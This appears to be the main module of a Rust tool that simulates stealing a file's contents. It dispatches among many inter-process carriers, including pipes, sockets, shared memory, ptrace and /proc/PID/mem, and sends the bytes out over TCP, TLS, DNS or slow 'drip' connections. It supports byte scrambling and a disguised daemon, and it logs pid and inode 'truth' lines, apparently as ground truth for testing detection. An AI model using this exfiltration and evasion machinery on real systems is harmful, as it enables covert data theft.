//! Thefts of every kind: how the bytes are got ([`take`]), how they come from who reads to who sends ([`carry`], [`descriptor`],
//! [`memory`]), and how they leave ([`send`]).
//!
//! Processes are forked before anything is opened, so that nothing is inherited but what the carrier is about. Each says one line of
//! truth on the one standard output that all share: `role` (`reader`, `sender`), `process.pid` as the host has it, the file by inode,
//! bytes, and the time at which the first byte was sent. What the kernel does not offer is `skipped`.

mod carry;
mod descriptor;
mod disguise;
mod memory;
mod send;
mod take;

pub use disguise::BecomeArgs;
pub use send::{ResolveArgs, resolve};

use super::{observe, process};
use crate::Context;
use clap::ValueEnum;
use serde_json::{Map, Value, json};
use std::fs::File;
use std::io::{self, Read, Write};
use std::net::SocketAddr;
use std::os::fd::AsFd;
use std::path::{Path, PathBuf};

#[derive(clap::Args)]
pub struct Args {
    /// How the bytes come from who reads to who sends.
    carrier: Carrier,
    /// The file; for `file` and `map` it is what is stolen, for `stdin` nothing.
    #[arg(long)]
    read: Option<PathBuf>,
    /// Where they go; `split` takes several.
    #[arg(long)]
    to: Vec<SocketAddr>,
    /// How they leave.
    #[arg(long, default_value = "tcp")]
    over: send::Over,
    /// How the reader reads.
    #[arg(long, default_value = "read")]
    take: take::Take,
    /// Only so many bytes.
    #[arg(long, default_value_t = u64::MAX)]
    limit: u64,
    /// The path of the FIFO, socket or file that carries.
    #[arg(long)]
    place: Option<PathBuf>,
    /// Combine each byte with a key before it leaves.
    #[arg(long)]
    scramble: bool,
    /// Connect before anything is opened (carrier `none`).
    #[arg(long)]
    connect_first: bool,
    /// The name in the TLS greeting (`--over tls`), or under which DNS queries are sent (`--over dns`).
    #[arg(long, default_value = "example.com")]
    name: String,
    /// Over so many connections, each of so many bytes, with so many milliseconds between (`--over drip`).
    #[arg(long, num_args = 3, default_values_t = [40, 8192, 50])]
    drip: Vec<u64>,
    /// Do only one half of it; the other is done elsewhere (carriers with a `--place`).
    #[arg(long)]
    half: Option<Half>,
    /// Have a daemon of this name do it: forked twice, under another command line.
    #[arg(long)]
    disguise: Option<String>,
}

/// What carries the bytes from process to process.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Carrier {
    /// One process reads and sends.
    None,
    /// Standard input: this process is the sender only.
    Stdin,
    /// A pipe.
    Pipe,
    /// A named pipe.
    Fifo,
    /// A unix stream socket with a name.
    UnixStream,
    /// A pair of unix sockets, inherited.
    Socketpair,
    /// Unix datagrams to a name.
    UnixDatagram,
    /// A copy on a file system.
    File,
    /// The same, copied within the kernel (copy_file_range).
    CopyFileRange,
    /// A file in memory without a name, inherited.
    Memfd,
    /// A file that both have mapped.
    Map,
    /// Memory without a file that both have mapped.
    SharedMemory,
    /// The reader's open descriptor, passed over a unix socket; the receiver reads, closes it, and only then connects.
    Descriptor,
    /// The reader's open descriptor, fetched by pidfd_getfd.
    PidfdGetfd,
    /// The parent connects; the child reads and sends.
    InheritedSocket,
    /// Somebody connects and passes the socket to who reads and sends.
    PassedSocket,
    /// process_vm_readv of a process that has loaded the file.
    ProcessVmReadv,
    /// The same the other way round: who has loaded the file writes it into another process (process_vm_writev).
    ProcessVmWritev,
    /// /proc/PID/mem of it.
    ProcMem,
    /// PTRACE_PEEKDATA of it.
    Ptrace,
    /// A child that shares all memory (CLONE_VM) reads; the parent sends.
    CloneVm,
}

/// A half of a theft by two processes.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Half {
    /// Read, and give to the other, once its place is there.
    Give,
    /// Make the place, take from the other, and send.
    Receive,
}

/// Carries it out. The truth is said line by line as it becomes true.
pub fn theft(args: &Args) -> io::Result<u8> {
    if let Some(name) = &args.disguise {
        return disguise::daemon(name);
    }
    match args.carrier {
        Carrier::None => carry::one(args),
        Carrier::Stdin => send::send(args, &mut io::stdin().lock()).map(drop),
        Carrier::Pipe => carry::pipe(args),
        Carrier::Fifo => carry::fifo(args),
        Carrier::UnixStream => carry::unix_stream(args),
        Carrier::Socketpair => carry::socketpair(args),
        Carrier::UnixDatagram => carry::unix_datagram(args),
        Carrier::File => carry::file(args),
        Carrier::CopyFileRange => carry::copied_in_the_kernel(args),
        Carrier::Memfd => carry::memfd(args),
        Carrier::Map | Carrier::SharedMemory => memory::map(args),
        Carrier::Descriptor => descriptor::passed(args),
        Carrier::PidfdGetfd => descriptor::fetched(args),
        Carrier::InheritedSocket => descriptor::inherited_socket(args),
        Carrier::PassedSocket => descriptor::passed_socket(args),
        Carrier::ProcessVmReadv | Carrier::ProcMem | Carrier::Ptrace => memory::other(args),
        Carrier::ProcessVmWritev => memory::pushed(args),
        Carrier::CloneVm => memory::clone_vm(args),
    }?;
    Ok(0)
}

/// Runs a program as this very process, having said who it will be.
pub fn become_program(args: &BecomeArgs) -> io::Result<u8> {
    disguise::become_program(args)
}

impl Args {
    fn source(&self) -> io::Result<&Path> {
        self.read.as_deref().ok_or_else(|| io::Error::other("--read is needed"))
    }

    fn place(&self) -> io::Result<&Path> {
        self.place.as_deref().ok_or_else(|| io::Error::other("--place is needed"))
    }

    fn first_target(&self) -> io::Result<SocketAddr> {
        self.to.first().copied().ok_or_else(|| io::Error::other("--to is needed"))
    }
}

/// Opens the file, and says so as its reader.
fn open(path: &Path) -> io::Result<File> {
    let file = File::open(path).context(|| path.display().to_string())?;
    say_reader(&file)?;
    Ok(file)
}

/// Says that this process has opened `file` to read it.
fn say_reader(file: &File) -> io::Result<()> {
    say("reader", observe::file(file.as_fd())?)
}

/// One line, written at once, since others write to the same pipe.
fn say(role: &str, truth: Map<String, Value>) -> io::Result<()> {
    io::stdout().write_all(line(role, truth)?.as_bytes())
}

/// What this process has to say as `role`.
fn line(role: &str, mut truth: Map<String, Value>) -> io::Result<String> {
    truth.insert("role".into(), role.into());
    truth.insert("process.pid".into(), json!(process::host_pid()?));
    truth.insert("process.vpid".into(), std::process::id().into());
    Ok(format!("{}\n", Value::Object(truth)))
}

/// Says why it cannot be done here.
fn say_skipped(why: String) -> io::Result<()> {
    io::stdout().write_all(format!("{}\n", observe::skipped(why)).as_bytes())
}

/// All of `from`, by plain reads.
fn read_whole(mut from: impl Read, limit: u64) -> io::Result<Vec<u8>> {
    let mut whole = Vec::new();
    from.by_ref().take(limit).read_to_end(&mut whole)?;
    Ok(whole)
}
